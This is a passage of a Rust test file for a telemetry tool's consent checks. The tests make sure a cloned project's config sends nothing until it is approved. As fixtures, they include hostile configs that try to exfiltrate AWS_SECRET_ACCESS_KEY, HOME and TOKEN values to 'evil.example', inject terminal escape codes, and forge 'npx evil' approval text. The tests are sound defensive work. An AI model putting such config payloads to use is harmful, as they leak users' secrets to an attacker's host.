//! Consent: nothing of a project is sent before the user has approved it.

#![expect(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

use otel_native::config::{
    Environment, InitPlan, Level, PersonalPlace, PersonalPlan, ProjectPlan, Text, Tier, approve,
    init, resolve, revoke,
};
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::thread;
use std::time::{Duration, SystemTime};

mod disk;
use disk::{Disk, on, reason};

const FOREIGN: &str = r#"{"otel":{"tier":1,"endpoint":"https://otlp.example"}}"#;

fn now() -> SystemTime {
    SystemTime::UNIX_EPOCH + Duration::from_hours(500_000)
}

fn approve_in(disk: &Disk, cwd: &str) {
    approve(&disk.0.join(cwd), &disk.environment(&[]), None, now()).unwrap();
}

#[test]
fn a_cloned_project_waits_for_approval() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    let message = disk.without_root(&reason(disk.resolve("project/src/deep", &[])));
    assert_eq!(
        message,
        "untrusted: You have not approved this project yet. ~/project/.ccxray.json asks to send \
         anonymous numbers (tier 1) to https://otlp.example. To approve: ccxray-otel trust ~/project"
    );
    approve_in(&disk, "project/src/deep");
    assert_eq!(on(disk.resolve("project", &[])).tier, Tier::Anonymous);
}

#[test]
fn only_an_approval_of_this_config_suffices() {
    let untrusted = |disk: &Disk, env: &[(&str, &str)]| {
        reason(disk.resolve("project", env)).starts_with("untrusted: ")
    };
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    let tier = ("CCXRAY_OTEL_TIER", "1");
    let endpoint = ("OTEL_EXPORTER_OTLP_ENDPOINT", "https://otlp.example");
    assert!(
        untrusted(&disk, &[]) && untrusted(&disk, &[tier]) && untrusted(&disk, &[tier, endpoint])
    );
    let own = r#"{"otel":{"tier":1,"endpoint":"https://otlp.example"}}"#;
    for place in ["home/.ccxray.user.json", "project/.ccxray.user.json"] {
        let disk = Disk::new().write("project/.ccxray.json", FOREIGN).write(place, own);
        assert!(untrusted(&disk, &[]), "{place}");
    }
    let named = r#"{"otel":{"tier":1}}"#;
    for place in ["project/.ccxray.json", "project/.ccxray.user.json"] {
        let disk = Disk::new().write(place, named);
        assert!(untrusted(&disk, &[endpoint]), "{place}: it may be set for another program");
    }
}

#[test]
fn a_hostile_repository_gets_nothing() {
    let disk = Disk::new().write(
        "project/.ccxray.json",
        r#"{"otel":{"tier":2,"endpoint":"https://evil.example/${AWS_SECRET_ACCESS_KEY}",
            "headers":{"x-tenant":"${HOME}\u001b[2J"},"names":"all","team":"${USER}"}}"#,
    );
    let env =
        [("AWS_SECRET_ACCESS_KEY", "s3cret-key"), ("HOME", "s3cret-home"), ("USER", "s3cret")];
    let resolution = disk.resolve("project", &env).unwrap();
    assert!(!format!("{resolution:?}").contains("s3cret"), "{resolution:?}");
    let message = disk.without_root(&reason(Ok(resolution)));
    assert_eq!(
        message,
        "untrusted: You have not approved this project yet. ~/project/.ccxray.json asks to send numbers \
         with the name that you choose (tier 2) to https://evil.example/${AWS_SECRET_ACCESS_KEY}; with \
         the headers: \"x-tenant=${HOME}\\u{1b}[2J\"; it will read your variable \
         AWS_SECRET_ACCESS_KEY as a part of this address; it will read your variable HOME and send it \
         there in the header \"x-tenant\"; it will read your variable USER and send it there as \
         \"team\"; it will send the private names of tools, servers, skills, agents and models. To \
         approve: ccxray-otel trust ~/project"
    );
    assert!(!disk.0.join("home/.ccxray").exists(), "nothing is written");
}

#[test]
fn a_local_receiver_gets_only_anonymous_numbers_without_approval() {
    for (settings, free) in [
        (r#""endpoint":"http://127.0.0.1:9""#, true),
        (r#""endpoint":"http://[::1]:9","project":"a","team":"b""#, true),
        (r#""endpoint":"http://localhost:9","interval_seconds":5,"queue":{"max_entries":9}"#, true),
        (r#""endpoint":"http://[::1]:9","headers":{"x-tenant":"a"}"#, false),
        (r#""endpoint":"http://127.0.0.1:9","names":"all""#, false),
        (r#""endpoint":"http://127.0.0.1:9","known_names":["deploy"]"#, false),
        (r#""endpoint":"http://127.0.0.1:9","insecure":true"#, false),
        (r#""endpoint":"http://127.0.0.1:9","interval_seconds":1"#, false),
        (r#""endpoint":"http://127.0.0.1:9","queue":{"max_mebibytes":65}"#, false),
        (r#""endpoint":"http://127.0.0.1:9","log":{"keep":6}"#, false),
        (r#""endpoint":"http://127.0.0.1:9","cardinality_overrides":{"tool":51}"#, false),
        (r#""endpoint":"https://127.0.0.1:9","tls":{"ca_file":"c"}"#, false),
        (r#""endpoint":"http://127.0.0.1:9","tier":2"#, false),
        (r#""endpoint":"http://127.0.0.1:9","headers":{"authorization":"${A}"}"#, false),
        (r#""endpoint":"http://127.0.0.1:9","project":"${A}""#, false),
        (r#""endpoint":"http://127.0.0.1:${A}""#, false),
        (
            r#""endpoint":"https://127.0.0.1:9","tls":{"certificate_file":"c","key_file":"k"}"#,
            false,
        ),
        (r#""endpoint":"http://127.0.0.1.example:9""#, false),
    ] {
        let tier = if settings.contains("tier") { "" } else { r#""tier":1,"# };
        let text = format!(r#"{{"otel":{{{tier}{settings}}}}}"#);
        let disk = Disk::new().write("project/.ccxray.json", &text);
        let resolution = disk.resolve("project", &[("A", "1")]).unwrap();
        assert_eq!(resolution.pending.is_some(), !free, "{settings}");
    }
}

#[test]
fn a_personal_file_in_the_project_reads_no_variable() {
    let identity = r#"{"otel":{"tier":2,"identity":"${AWS_SECRET_ACCESS_KEY}"}}"#;
    let env = [
        ("AWS_SECRET_ACCESS_KEY", "s3cret"),
        ("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:9"),
    ];
    let asked = |disk: &Disk| {
        let resolution = disk.resolve("project", &env).unwrap();
        assert!(!format!("{resolution:?}").contains("s3cret"));
        reason(Ok(resolution)).contains(
            "read your variable AWS_SECRET_ACCESS_KEY and send it there as \"enduser.id\"",
        )
    };
    let disk =
        Disk::new().write("project/.ccxray.json", &FOREIGN.replace("\"tier\":1", "\"tier\":2"));
    fs::remove_dir(disk.0.join("project/.git")).unwrap();
    approve_in(&disk, "project");
    let disk = disk.write("project/.ccxray.user.json", identity);
    assert!(!reason(disk.resolve("project", &env)).is_empty(), "it was added after the approval");
    for endpoint in ["https://otlp.example", "http://127.0.0.1:9"] {
        let text = format!(r#"{{"otel":{{"tier":2,"endpoint":"{endpoint}"}}}}"#);
        let disk = Disk::new().write("project/.ccxray.json", &text);
        assert!(asked(&disk.write("project/.ccxray.user.json", identity)), "{endpoint}");
    }
    assert!(asked(&Disk::new().write("project/.ccxray.user.json", identity)));
    let home = r#"{"otel":{"tier":2,"identity":"me","endpoint":"http://127.0.0.1:9"}}"#;
    let disk = Disk::new().write("home/.ccxray.user.json", home);
    let resolution = disk.write("project/.ccxray.user.json", identity).resolve("project", &env);
    let tier = Tier::Named { identity: Text::literal("me") };
    assert_eq!(on(resolution).tier, tier, "the user's own settings stay");
}

#[test]
fn an_approval_covers_the_query_and_the_authority() {
    let with = |query: &str, tls: &str| {
        format!(r#"{{"otel":{{"tier":1,"endpoint":"https://otlp.example/{query}"{tls}}}}}"#)
    };
    let disk = Disk::new().write("project/.ccxray.json", &with("?dataset=mine", ""));
    approve_in(&disk, "project");
    on(disk.resolve("project", &[]));
    for text in [with("?dataset=strangers", ""), with("?dataset=mine", r#","tls":{"ca_file":"c"}"#)]
    {
        fs::write(disk.0.join("project/.ccxray.json"), text).unwrap();
        assert!(disk.resolve("project", &[]).unwrap().pending.is_some());
    }
}

#[test]
fn an_approval_covers_the_tenant() {
    let with = |tenant: &str| {
        format!(
            r#"{{"otel":{{"tier":1,"endpoint":"https://otlp.example","headers":{{"x-scope-orgid":"{tenant}"}}}}}}"#
        )
    };
    let disk = Disk::new().write("project/.ccxray.json", &with("acme"));
    approve_in(&disk, "project");
    on(disk.resolve("project", &[]));
    let disk = disk.write("project/.ccxray.json", &with("mallory"));
    assert!(reason(disk.resolve("project", &[])).contains("new header x-scope-orgid=mallory"));
}

#[test]
fn an_identity_behind_a_link_into_git_is_not_used() {
    let disk = repository();
    fs::rename(disk.0.join("project/.ccxray.user.json"), disk.0.join("project/src/u.json"))
        .unwrap();
    std::os::unix::fs::symlink("src/u.json", disk.0.join("project/.ccxray.user.json")).unwrap();
    approve_in(&disk, "project");
    assert_eq!(on(disk.resolve("project", &[])).tier.number(), 2);
    disk.git("project", &["add", "src/u.json"]);
    assert_eq!(on(disk.resolve("project", &[])).tier, Tier::Anonymous);
}

#[test]
fn init_does_not_follow_links_of_a_project() {
    let disk = Disk::new().write("home/.ccxray.user.json", r#"{"otel":{"tier":0}}"#);
    let link = disk.0.join("project/.ccxray.user.json");
    std::os::unix::fs::symlink("../home/.ccxray.user.json", link).unwrap();
    let plan = named(PersonalPlace::Project, true);
    let refused = init(&disk.0.join("project"), &disk.environment(&[]), &plan, now());
    assert!(refused.unwrap_err().to_string().contains("symbolic link"));
    let home = fs::read_to_string(disk.0.join("home/.ccxray.user.json")).unwrap();
    assert_eq!(home, r#"{"otel":{"tier":0}}"#);
}

#[test]
fn a_project_can_be_approved_while_off() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    let off = [("CCXRAY_OTEL_TIER", "0"), ("DO_NOT_TRACK", "1")];
    approve(&disk.0.join("project"), &disk.environment(&off), None, now()).unwrap();
    on(disk.resolve("project", &[]));
}

#[test]
fn a_changed_config_needs_a_new_approval() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    approve_in(&disk, "project");
    let disk = disk.write(
        "project/.ccxray.json",
        r#"{"otel":{"tier":1,"endpoint":"https://evil.example","headers":{"authorization":"Bearer ${TOKEN}"}}}"#,
    );
    assert_eq!(
        disk.without_root(&reason(disk.resolve("project", &[("TOKEN", "s3cret")]))),
        "untrusted: ~/project/.ccxray.json has changed since you approved it: the endpoint was \
         https://otlp.example and is now https://evil.example, new header \
         \"authorization=Bearer ${TOKEN}\", new variable TOKEN@headers.authorization. To approve: \
         ccxray-otel trust ~/project"
    );
    let consent = approve(&disk.0.join("project"), &disk.environment(&[]), None, now()).unwrap();
    assert_eq!(consent.changes.len(), 3);
    assert_eq!(on(disk.resolve("project", &[("TOKEN", "x")])).headers.iter().count(), 1);
    let disk = disk
        .write("project/.ccxray.json", &FOREIGN.replace("\"tier\":1", "\"team\":\"x\",\"tier\":1"));
    assert!(
        reason(disk.resolve("project", &[]))
            .contains("removed header \"authorization=Bearer ${TOKEN}\"")
    );
}

#[test]
fn a_hash_approves_only_its_terms() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    let shown = disk.resolve("project", &[]).unwrap().pending.unwrap().terms.hash();
    let disk = disk.write("project/.ccxray.json", &FOREIGN.replace("otlp", "evil"));
    let approve_shown =
        || approve(&disk.0.join("project"), &disk.environment(&[]), Some(&shown), now());
    assert!(approve_shown().unwrap_err().to_string().contains("has changed since you saw it"));
    fs::write(disk.0.join("project/.ccxray.json"), FOREIGN).unwrap();
    assert!(approve_shown().is_ok());
}

#[test]
fn text_of_a_project_cannot_forge_the_cure() {
    let text = r#"{"otel":{"tier":1,"endpoint":"https://good.example. To approve: npx evil ${X}",
        "known_names":["a. To approve: npx evil"]}}"#;
    let disk = Disk::new().write("project/.ccxray.json", text);
    let message = disk.without_root(&reason(disk.resolve("project", &[])));
    assert!(
        message.contains("to \"https://good.example. To approve: npx evil ${X}\"; it will"),
        "{message}"
    );
    assert!(
        message.contains("names: \"a. To approve: npx evil\". To approve: ccxray-otel trust"),
        "{message}"
    );
    let header = r#"{"otel":{"tier":1,"endpoint":"https://a.example","headers":{"x. To":"${X}"}}}"#;
    let disk = Disk::new().write("project/.ccxray.json", header);
    assert!(disk.resolve("project", &[]).unwrap_err().contains("This is not an HTTP header."));
}

#[test]
fn a_nested_project_has_its_own_approval() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    let disk = disk.write("project/src/.ccxray.json", &FOREIGN.replace("otlp", "src"));
    approve_in(&disk, "project");
    assert!(!revoke(&disk.0.join("project/src"), &disk.environment(&[])).unwrap());
    on(disk.resolve("project", &[]));
}

#[test]
fn an_approval_can_be_revoked_without_the_file() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    let revoke_here = || revoke(&disk.0.join("project/src"), &disk.environment(&[])).unwrap();
    assert!(!revoke_here());
    approve_in(&disk, "project");
    fs::remove_file(disk.0.join("project/.ccxray.json")).unwrap();
    assert!(revoke_here() && !revoke_here());
    fs::write(disk.0.join("project/.ccxray.json"), FOREIGN).unwrap();
    assert!(reason(disk.resolve("project", &[])).starts_with("untrusted: "));
}

#[test]
fn the_record_is_private_and_has_no_values() {
    let text = r#"{"otel":{"tier":1,"endpoint":"https://otlp.example","headers":{"authorization":"Bearer ${TOKEN}"}}}"#;
    let disk = Disk::new().write("project/.ccxray.json", text);
    let elsewhere = disk.0.join("elsewhere");
    let env = [("TOKEN", "s3cret"), ("CCXRAY_HOME", elsewhere.to_str().unwrap())];
    approve(&disk.0.join("project"), &disk.environment(&env), None, now()).unwrap();
    assert!(!disk.0.join("home/.ccxray").exists());
    let file = elsewhere.join("otel-trust.json");
    let mode = |path| fs::metadata(path).unwrap().permissions().mode() & 0o777;
    assert_eq!((mode(&file), mode(&elsewhere)), (0o600, 0o700));
    let kept = fs::read_to_string(&file).unwrap();
    assert!(!kept.contains("s3cret"), "{kept}");
    let json: serde_json::Value = serde_json::from_str(&kept).unwrap();
    let project = &json["projects"][disk.0.join("project").to_str().unwrap()];
    assert_eq!(project["trusted_at"], "2027-01-15T08:00:00Z");
    assert_eq!(project["hash"].as_str().unwrap().len(), 64);
    assert_eq!(on(disk.resolve("project", &env)).headers.iter().count(), 1);
}

#[test]
fn a_record_that_cannot_be_trusted_approves_nothing() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    approve_in(&disk, "project");
    let file = disk.0.join("home/.ccxray/otel-trust.json");
    let mode = |mode| fs::set_permissions(&file, fs::Permissions::from_mode(mode)).unwrap();
    mode(0o666);
    let message = reason(disk.resolve("project", &[]));
    assert!(message.contains("Other users can write to this file."), "{message}");
    mode(0o600);
    on(disk.resolve("project", &[]));
    fs::set_permissions(file.parent().unwrap(), fs::Permissions::from_mode(0o777)).unwrap();
    assert!(reason(disk.resolve("project", &[])).contains("Other users can write to this file."));
    fs::set_permissions(file.parent().unwrap(), fs::Permissions::from_mode(0o700)).unwrap();
    fs::write(&file, "{").unwrap();
    let message = reason(disk.resolve("project", &[]));
    assert!(
        message.contains("This file is damaged. Delete it, then run trust again in each project."),
        "{message}"
    );
    let refused =
        approve(&disk.0.join("project"), &disk.environment(&[]), None, now()).unwrap_err();
    assert!(refused.to_string().contains("Delete it"), "a damaged file is not overwritten");
    fs::write(&file, r#"{"version":2,"projects":{}}"#).unwrap();
    assert!(
        reason(disk.resolve("project", &[]))
            .contains("A newer version of @ccxray/otel-native has written this file.")
    );
}

#[test]
fn concurrent_writers_lose_nothing() {
    let disk = Disk::new();
    let projects: Vec<_> = (0..16).map(|i| format!("p{i}")).collect();
    for project in &projects {
        fs::create_dir_all(disk.0.join(project).join(".git")).unwrap();
        fs::write(disk.0.join(project).join(".ccxray.json"), FOREIGN).unwrap();
    }
    let disk = &disk;
    thread::scope(|scope| {
        for project in &projects {
            scope.spawn(move || {
                for _ in 0..5 {
                    approve_in(disk, project);
                    revoke(&disk.0.join(project), &disk.environment(&[])).unwrap();
                    approve_in(disk, project);
                }
            });
        }
    });
    for project in &projects {
        on(disk.resolve(project, &[]));
    }
}

/// A project at tier 2 in a real repository, with a personal file in it.
fn repository() -> Disk {
    let disk = Disk::new();
    fs::remove_dir(disk.0.join("project/.git")).unwrap();
    disk.git("project", &["init", "-q"]);
    disk.write("project/.ccxray.json", r#"{"otel":{"tier":2,"endpoint":"http://127.0.0.1:9"}}"#)
        .write("project/.ccxray.user.json", r#"{"otel":{"tier":2,"identity":"me"}}"#)
}

#[test]
fn an_identity_in_git_is_not_used() {
    let disk = repository();
    let env = [];
    approve_in(&disk, "project");
    assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2, "not in git yet");
    disk.git("project", &["add", ".ccxray.user.json"]);
    let resolution = disk.resolve("project", &env).unwrap();
    let message = resolution.warnings.join(" ");
    assert!(message.contains("git rm --cached .ccxray.user.json"), "{message}");
    assert_eq!(on(Ok(resolution)).tier, Tier::Anonymous);
    let own = [("CCXRAY_OTEL_TIER", "2"), ("CCXRAY_OTEL_IDENTITY", "me")];
    assert_eq!(on(disk.resolve("project", &own)).tier.number(), 2, "chosen for this launch");
    disk.git("project", &["rm", "-q", "--cached", ".ccxray.user.json"]);
    assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2, "the cure helps");
}

#[test]
fn a_tier_in_git_is_not_a_choice() {
    let disk = repository();
    approve_in(&disk, "project");
    disk.git("project", &["add", ".ccxray.user.json"]);
    let env = [("CCXRAY_OTEL_IDENTITY", "me")];
    let resolution = disk.resolve("project", &env).unwrap();
    let message = resolution.warnings.join(" ");
    assert!(message.contains("is in git, so "), "{message}");
    assert_eq!(on(Ok(resolution)).tier, Tier::Anonymous, "an identity alone does not allow tier 2");
    let disk = disk.write("home/.ccxray.user.json", r#"{"otel":{"tier":2}}"#);
    assert_eq!(on(disk.resolve("project", &env)).tier.number(), 2);
}

#[test]
fn a_home_in_git_is_not_believed() {
    let home = r#"{"otel":{"tier":1,"endpoint":"https://evil.example","headers":{"x":"${A}"}}}"#;
    let disk = Disk::new().write("home/.ccxray.user.json", home);
    let env = [("A", "s3cret")];
    disk.git("home", &["init", "-q"]);
    assert_eq!(on(disk.resolve("home", &env)).tier, Tier::Anonymous);
    disk.git("home", &["add", ".ccxray.user.json"]);
    for cwd in ["home", "project"] {
        let resolution = disk.resolve(cwd, &env).unwrap();
        let message = disk.without_root(&resolution.warnings.join(" "));
        assert!(message.contains("~/home/.ccxray.user.json"), "{message}");
        assert!(message.contains("git rm --cached .ccxray.user.json"), "{message}");
        assert!(reason(Ok(resolution)).starts_with("Telemetry is off"));
    }
    disk.git("home", &["rm", "-q", "--cached", ".ccxray.user.json"]);
    assert_eq!(on(disk.resolve("home", &env)).tier, Tier::Anonymous, "the cure helps");
}

#[test]
fn a_home_that_is_not_believed_can_still_lower_the_tier() {
    let home = r#"{"otel":{"tier":0}}"#;
    let disk = Disk::new().write("home/.ccxray.user.json", home);
    let local = r#"{"otel":{"tier":1,"endpoint":"http://127.0.0.1:9"}}"#;
    let disk = disk.write("project/.ccxray.json", local);
    let file = disk.0.join("home/.ccxray.user.json");
    fs::set_permissions(&file, fs::Permissions::from_mode(0o666)).unwrap();
    let resolution = disk.resolve("project", &[]).unwrap();
    let message = disk.without_root(&resolution.warnings.join(" "));
    assert!(message.contains("Run chmod go-w ~/home/.ccxray.user.json"), "{message}");
    assert!(!reason(Ok(resolution)).is_empty());
    fs::write(&file, "{").unwrap();
    on(disk.resolve("project", &[]));
}

#[test]
fn a_record_in_git_approves_nothing() {
    let disk = Disk::new().write("project/.ccxray.json", FOREIGN);
    fs::remove_dir(disk.0.join("project/.git")).unwrap();
    disk.git("project", &["init", "-q"]);
    let own = disk.0.join("project/own");
    let env = [("CCXRAY_HOME", own.to_str().unwrap())];
    approve(&disk.0.join("project"), &disk.environment(&env), None, now()).unwrap();
    on(disk.resolve("project", &env));
    disk.git("project", &["add", "own/otel-trust.json"]);
    let message = reason(disk.resolve("project", &env));
    assert!(message.contains("This file is in git"), "{message}");
}

#[test]
fn a_home_that_is_not_absolute_is_no_home() {
    let own = r#"{"otel":{"tier":1,"endpoint":"https://evil.example","headers":{"x":"${A}"}}}"#;
    for home in ["", ".", "~", "project", "./project/../project"] {
        let disk = Disk::new().write("project/.ccxray.user.json", own);
        let local = r#"{"otel":{"tier":1,"endpoint":"http://127.0.0.1:9"}}"#;
        let disk = disk.write("project/.ccxray.json", local);
        let env = [("A", "s3cret"), ("CCXRAY_HOME", "project")];
        let environment = Environment { home: Some(home.into()), ..disk.environment(&env) };
        let resolution = resolve(&disk.0.join("project"), &environment).unwrap();
        assert_eq!(resolution.warnings.len(), 3, "{home}: {:?}", resolution.warnings);
        let config = on(Ok(resolution));
        assert!(config.endpoint.is_loopback() && config.headers.iter().next().is_none(), "{home}");
    }
}

#[test]
fn a_personal_file_without_git_needs_its_own_approval() {
    let local = r#"{"otel":{"tier":2,"endpoint":"http://127.0.0.1:9"}}"#;
    let theirs = r#"{"otel":{"tier":2,"identity":"mallory"}}"#;
    let home = r#"{"otel":{"tier":2,"identity":"me","endpoint":"http://127.0.0.1:9"}}"#;
    let disk = Disk::new().write("home/.ccxray.user.json", home);
    fs::remove_dir(disk.0.join("project/.git")).unwrap();
    let disk = disk.write("project/.ccxray.user.json", theirs);
    let name = |disk: &Disk, env: &[(&str, &str)]| match on(disk.resolve("project", env)).tier {
        Tier::Named { identity } => identity.reveal().to_owned(),
        Tier::Anonymous => String::new(),
    };
    assert_eq!(name(&disk, &[]), "me");
    let asked = disk.resolve("project", &[]).unwrap().pending.unwrap();
    assert_eq!(asked.terms.personal, ["tier=2", "identity=mallory"]);
    assert_eq!(name(&disk, &[("CCXRAY_OTEL_TRUST", "1")]), "me", "nobody has seen this file");
    approve_in(&disk, "project");
    assert_eq!(name(&disk, &[]), "mallory", "approved for this very file");
    let disk = disk.write("project/.ccxray.user.json", &theirs.replace("mallory", "eve"));
    assert_eq!(name(&disk, &[]), "me");
    let disk = disk.write("project/.ccxray.json", local);
    assert!(reason(disk.resolve("project", &[])).starts_with("untrusted: "));
}

#[test]
fn a_directory_that_poses_as_a_repository_hides_nothing() {
    let disk = repository();
    for directory in ["project/src/objects", "project/src/refs", "project/src/deep/.git"] {
        fs::create_dir_all(disk.0.join(directory)).unwrap();
    }
    let files = r#"{"otel":{"tier":2,"identity":"mallory"}}"#;
    let disk =
        disk.write("project/src/HEAD", "ref: refs/heads/main\n").write("project/src/config", "");
    let home = r#"{"otel":{"tier":2,"endpoint":"http://127.0.0.1:9"}}"#;
    let disk = disk.write("home/.ccxray.user.json", home);
    for place in ["src", "src/deep"] {
        let disk_file = disk.0.join("project").join(place).join(".ccxray.user.json");
        fs::write(&disk_file, files).unwrap();
        disk.git("project", &["add", "--force", disk_file.to_str().unwrap()]);
        let cwd = format!("project/{place}");
        approve_in(&disk, &cwd);
        let resolution = disk.resolve(&cwd, &[]).unwrap();
        assert!(resolution.warnings.join(" ").contains("is in git"), "{:?}", resolution.warnings);
    }
}

#[test]
fn what_the_index_does_not_say_clearly_is_not_believed() {
    let disk = repository();
    approve_in(&disk, "project");
    disk.git("project", &["add", ".ccxray.json"]);
    let tier = |disk: &Disk| on(disk.resolve("project", &[])).tier.number();
    assert_eq!(tier(&disk), 2);
    for (arguments, expected) in [
        (&["update-index", "--index-version", "4"][..], 2),
        (&["update-index", "--index-version", "3"], 2),
        (&["update-index", "--fsmonitor", "--untracked-cache"], 2),
        (&["update-index", "--split-index"], 1),
        (&["update-index", "--no-split-index"], 2),
    ] {
        disk.git("project", arguments);
        assert_eq!(tier(&disk), expected, "{arguments:?}");
    }
    let index = disk.0.join("project/.git/index");
    fs::rename(&index, disk.0.join("index")).unwrap();
    assert_eq!(tier(&disk), 2, "nothing was ever added");
    fs::write(&index, "DIRC").unwrap();
    assert_eq!(tier(&disk), 1);
    fs::remove_file(&index).unwrap();
    std::os::unix::fs::symlink("/proc/self/pagemap", &index).unwrap();
    assert_eq!(tier(&disk), 1);
}

#[test]
fn other_repositories_are_read_as_git_reads_them() {
    let disk = Disk::new();
    disk.git("home", &["init", "-q", "--object-format=sha256", "other"]);
    let disk = disk.write("home/other/.ccxray.user.json", r#"{"otel":{"tier":2,"identity":"me"}}"#);
    let disk = disk.write("home/other/a", "");
    disk.git("home/other", &["add", "a"]);
    disk.git("home/other", &["commit", "-qm", "x"]);
    disk.git("home/other", &["worktree", "add", "-q", "../tree"]);
    fs::copy(
        disk.0.join("home/other/.ccxray.user.json"),
        disk.0.join("home/tree/.ccxray.user.json"),
    )
    .unwrap();
    let env = [("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:9")];
    for place in ["home/other", "home/tree"] {
        approve(&disk.0.join(place), &disk.environment(&env), None, now()).unwrap();
        assert_eq!(on(disk.resolve(place, &env)).tier.number(), 2, "{place}");
        disk.git(place, &["add", "--force", ".ccxray.user.json"]);
        assert_eq!(on(disk.resolve(place, &env)).tier.number(), 1, "{place}");
    }
}

#[test]
fn headers_are_not_sent_unencrypted_without_a_word() {
    let with = |more: &str| {
        format!(
            r#"{{"otel":{{"tier":1,"endpoint":"http://10.0.0.1:4318","headers":{{"x":"${{A}}"}}{more}}}}}"#
        )
    };
    let env = [("A", "s3cret"), ("HOST", "10.0.0.1")];
    for place in ["project/.ccxray.json", "home/.ccxray.user.json"] {
        let disk = Disk::new().write(place, &with(""));
        let refused = disk.resolve("project", &env).unwrap_err();
        assert!(refused.contains("Headers would be sent unencrypted"), "{refused}");
        let disk = disk.write(place, &with(r#","insecure":true"#));
        approve(&disk.0.join("project"), &disk.environment(&env), None, now()).unwrap();
        assert_eq!(on(disk.resolve("project", &env)).headers.iter().count(), 1, "{place}");
    }
    let variable = with("").replace("10.0.0.1", "${HOST}");
    let disk = Disk::new().write("project/.ccxray.json", &variable);
    approve_in(&disk, "project");
    let refused = disk.resolve("project", &env).unwrap_err();
    assert!(refused.contains("Headers would be sent unencrypted"), "{refused}");
}

#[test]
fn what_is_said_of_a_large_config_is_short() {
    let names: Vec<_> = (0..1500).map(|at| format!("\"n{at}\"")).collect();
    let text = format!(
        r#"{{"otel":{{"tier":1,"endpoint":"https://a.example","known_names":[{}]}}}}"#,
        names.join(",")
    );
    let disk = Disk::new().write("project/.ccxray.json", &text);
    let message = reason(disk.resolve("project", &[]));
    assert!(message.len() < 2048 && message.contains("To approve: "), "{message}");
    let larger = text.replace("\"n1\"", &format!("\"{}\"", "n".repeat(16 << 10)));
    let disk = disk.write("project/.ccxray.json", &larger);
    assert!(disk.resolve("project", &[]).unwrap_err().contains("larger than 16 KiB"));
    let disk = disk.write("project/.ccxray.json", &" ".repeat(300 << 10));
    assert!(disk.resolve("project", &[]).unwrap_err().contains("larger than 256 KiB"));
}

#[test]
fn a_full_record_still_takes_approvals() {
    let disk = Disk::new();
    let names: Vec<_> = (0..1500).map(|at| format!("\"n{at}\"")).collect();
    let text =
        FOREIGN.replace("\"tier\"", &format!("\"known_names\":[{}],\"tier\"", names.join(",")));
    for at in 0..40 {
        let project = format!("p{at}");
        fs::create_dir_all(disk.0.join(&project).join(".git")).unwrap();
        fs::write(disk.0.join(&project).join(".ccxray.json"), &text).unwrap();
        let later = now() + Duration::from_secs(at);
        approve(&disk.0.join(&project), &disk.environment(&[]), None, later).unwrap();
    }
    for project in ["p0", "p39"] {
        on(disk.resolve(project, &[]));
    }
}

#[test]
fn init_writes_and_approves_a_project() {
    let disk = Disk::new();
    let project = ProjectPlan {
        tier: Some(Level::Anonymous),
        endpoint: Some("https://otlp.example".to_owned()),
        team: Some("payments".to_owned()),
        ..ProjectPlan::default()
    };
    let plan = InitPlan { project: Some(project), ..InitPlan::default() };
    let cwd = disk.0.join("project/src/deep");
    let done = init(&cwd, &disk.environment(&[]), &plan, now()).unwrap();
    let file = disk.0.join("project/.ccxray.json");
    assert_eq!((done.written, done.asks), (vec![file.clone()], vec![]));
    assert_eq!(
        fs::read_to_string(file).unwrap(),
        "{\n  \"otel\": {\n    \"tier\": 1,\n    \"endpoint\": \"https://otlp.example\",\n    \"team\": \"payments\"\n  }\n}\n"
    );
    assert_eq!(on(disk.resolve("project", &[])).tier, Tier::Anonymous);
    let again = init(&cwd, &disk.environment(&[]), &plan, now()).unwrap();
    assert_eq!((again.written.len(), again.unchanged.len()), (0, 1));
}

fn named(place: PersonalPlace, yes: bool) -> InitPlan {
    let identity = Some("me".to_owned());
    let personal = PersonalPlan { tier: Some(Level::Named), identity, place };
    InitPlan { personal: Some(personal), yes, ..InitPlan::default() }
}

#[test]
fn init_keeps_the_personal_file_out_of_git() {
    let disk = repository();
    fs::remove_file(disk.0.join("project/.ccxray.user.json")).unwrap();
    let disk = disk.write("project/.gitignore", "node_modules\r\ntarget");
    let run = |yes| {
        let plan = named(PersonalPlace::Project, yes);
        init(&disk.0.join("project"), &disk.environment(&[]), &plan, now()).unwrap()
    };
    approve_in(&disk, "project");
    let asked = run(false);
    assert_eq!(asked.asks.len(), 1, "{:?}", asked.asks);
    assert!(!disk.0.join("project/.ccxray.user.json").exists(), "nothing before it is granted");
    assert_eq!(run(true).written.len(), 2);
    let ignored = fs::read_to_string(disk.0.join("project/.gitignore")).unwrap();
    assert_eq!(ignored, "node_modules\r\ntarget\r\n.ccxray.user.json\r\n");
    assert_eq!(run(false).asks.len(), 0, "there is nothing left to ask");
    assert_eq!(on(disk.resolve("project", &[])).tier.number(), 2);
    disk.git("project", &["add", "--force", ".ccxray.user.json"]);
    let plan = named(PersonalPlace::Project, true);
    let refused = init(&disk.0.join("project"), &disk.environment(&[]), &plan, now());
    assert!(refused.unwrap_err().to_string().contains("git rm --cached"));
}

#[test]
fn init_keeps_style_and_the_first_agreement_time() {
    let before =
        "{\n\t\"theme\": \"dark\",\n\t\"otel\": {\n\t\t\"tier\": 1\n\t},\n\t\"ports\": [1,  2]\n}";
    let disk = Disk::new().write("home/.ccxray.user.json", before);
    let env = [("OTEL_EXPORTER_OTLP_ENDPOINT", "http://127.0.0.1:9")];
    let run = |seconds| {
        let plan = named(PersonalPlace::Home, false);
        let later = now() + Duration::from_secs(seconds);
        init(&disk.0.join("project"), &disk.environment(&env), &plan, later).unwrap();
        fs::read_to_string(disk.0.join("home/.ccxray.user.json")).unwrap()
    };
